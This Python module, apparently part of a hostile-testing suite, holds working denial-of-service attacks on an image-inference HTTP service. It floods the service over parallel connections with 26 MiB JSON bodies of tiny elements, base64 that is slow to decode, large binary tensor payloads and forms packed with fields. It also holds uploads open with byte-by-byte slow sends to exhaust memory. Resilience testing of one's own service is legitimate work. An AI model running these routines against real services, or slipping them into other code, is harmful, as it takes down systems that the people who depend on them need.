"""Denial of service by request bodies: large ones that cost time, and large ones that cost memory."""

from __future__ import annotations

import json
import socket
import time

from sightline_testing.hostile.attacks import CONNECT_TIMEOUT_S, Target, repeat

MIB = 1024**2
# What base64 of the largest image takes, and a little less than the rest of a document may have.
JSON_BYTES = 26 * MIB
IMAGE_BYTES = 19 * MIB
SMALL_JSON_BYTES = 60_000
FIELDS_BYTES = 250_000
CONNECTIONS = 8
MANY_CONNECTIONS = 16
PIECE_BYTES = 256 * 1024
READ_BYTES = 64 * 1024
INFER = "POST /v2/models/default/infer HTTP/1.1"
PREDICT = "POST /predict HTTP/1.1"


def _post(target: Target, line: str, kind: str, body: bytes, *headers: str) -> bytes:
    told = ("Connection: close", f"Content-Type: {kind}", f"Content-Length: {len(body)}", *headers)
    return target.head(line, *told) + body


def _filled(begin: bytes, unit: bytes, size: int, end: bytes = b"") -> bytes:
    return begin + unit * ((size - len(begin) - len(end)) // len(unit)) + end


def _again_and_again(target: Target, until: float, *requests: bytes, connections: int = CONNECTIONS) -> None:
    """Send each of the requests on a connection of its own, and the next one once that has its answer."""

    def step() -> None:
        for request in requests:
            with socket.create_connection((target.host, target.port), timeout=CONNECT_TIMEOUT_S) as connection:
                connection.settimeout(max(until - time.monotonic(), 0.01))
                connection.sendall(request)
                while connection.recv(READ_BYTES):
                    pass

    repeat(until, step, connections)


def json_of_many_elements(target: Target, until: float) -> None:
    """Send JSON of 26 MiB that is nothing but small objects, strings, numbers, members or brackets."""
    units = (b"{},", b'"",', b"1,", b'"image":"",', b"[")
    bodies = (_filled(b'{"images":[', unit, JSON_BYTES) for unit in units)
    _again_and_again(target, until, *(_post(target, PREDICT, "application/json", body) for body in bodies))


def json_of_as_many_elements_as_are_taken(target: Target, until: float) -> None:
    """Send JSON that is small enough to be parsed, and costs as much as it can."""
    units = (b"{},", b'"",', b"[[],[]],", b'"' + b'\\"' * 900 + b'",')
    bodies = [_filled(b'{"images":[', unit, SMALL_JSON_BYTES, b"0]}") for unit in units]
    routes = (PREDICT, INFER, "POST /feedback HTTP/1.1")
    _again_and_again(
        target, until, *(_post(target, route, "application/json", body) for route in routes for body in bodies)
    )


def json_of_large_images(target: Target, until: float) -> None:
    """Send base64 that takes as long to decode as any can, with and without escapes, and is no image."""
    bodies = (_filled(b'{"image":"', unit, JSON_BYTES, b'"}') for unit in (b"AAAA", b"\\/\\/", b"\\u002bAAA"))
    _again_and_again(target, until, *(_post(target, PREDICT, "application/json", body) for body in bodies))


def tensors_of_many_elements(target: Target, until: float) -> None:
    """Send tensors of 26 MiB whose elements are as small as they can be, in the binary extension and in JSON."""
    requests = []
    for unit in (b"\0\0\0\0", b"\1\0\0\0A", b"\4\0\0\0QUJD"):
        data = _filled(b"", unit, JSON_BYTES)
        tensor = {"name": "image", "datatype": "BYTES", "shape": [1], "parameters": {"binary_data_size": len(data)}}
        head = json.dumps({"inputs": [tensor]}).encode()
        length = f"Inference-Header-Content-Length: {len(head)}"
        requests.append(_post(target, INFER, "application/octet-stream", head + data, length))
    for begin in (b'{"inputs":[', b'{"inputs":[{"datatype":"BYTES","data":[', b'{"inputs":[{"shape":['):
        requests.append(_post(target, INFER, "application/json", _filled(begin, b"[[],[]],", JSON_BYTES)))
    _again_and_again(target, until, *requests)


def forms_of_many_fields(target: Target, until: float) -> None:
    """Send forms of as many fields as fit, and of fields that have to be decoded."""
    kind = "application/x-www-form-urlencoded"
    feedback = [_filled(b"", unit, FIELDS_BYTES) for unit in (b"a&", b"a=%41&", b"%41")]
    pages = [_filled(b"", b"a&", IMAGE_BYTES)]
    _again_and_again(
        target,
        until,
        *(_post(target, "POST /feedback HTTP/1.1", kind, body) for body in feedback),
        *(_post(target, "POST / HTTP/1.1", kind, body) for body in pages),
    )


def bodies_that_are_held(target: Target, until: float) -> None:
    """Send large images but for their end, on more connections than the memory for uploads has room for."""
    head = target.head(PREDICT, "Content-Type: image/jpeg", f"Content-Length: {IMAGE_BYTES}")

    def step() -> None:
        with target.connection(until) as connection:
            connection.sendall(head + b"\xff\xd8\xff")
            left = IMAGE_BYTES - 3
            while left > PIECE_BYTES:
                connection.sendall(bytes(PIECE_BYTES))
                left -= PIECE_BYTES
            while time.monotonic() < until and left > 1:
                connection.sendall(b"x")
                left -= 1
                time.sleep(0.5)

    repeat(until, step, MANY_CONNECTIONS)
